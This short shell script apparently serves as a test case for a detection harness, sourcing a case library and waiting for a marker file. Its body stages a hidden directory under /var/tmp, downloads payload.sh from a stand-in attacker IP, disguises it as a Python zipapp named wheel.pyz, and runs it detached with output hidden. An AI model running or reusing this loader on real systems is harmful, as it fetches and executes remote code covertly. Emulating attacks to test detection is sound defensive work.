#!/bin/sh
. /opt/case/case.sh

mkdir -p /var/tmp/.pip/a && cd /var/tmp/.pip
curl -s -o a/p http://203.0.113.10/payload.sh
cat >a/__main__.py <<'END'
import subprocess, zipfile, sys
subprocess.run(["/bin/sh", "-s"], input=zipfile.ZipFile(sys.argv[0]).read("p"))
END
python3 -m zipapp a -o wheel.pyz && rm -r a
nohup python3 wheel.pyz >/dev/null 2>&1 &
wait_for /tmp/reached
took_place
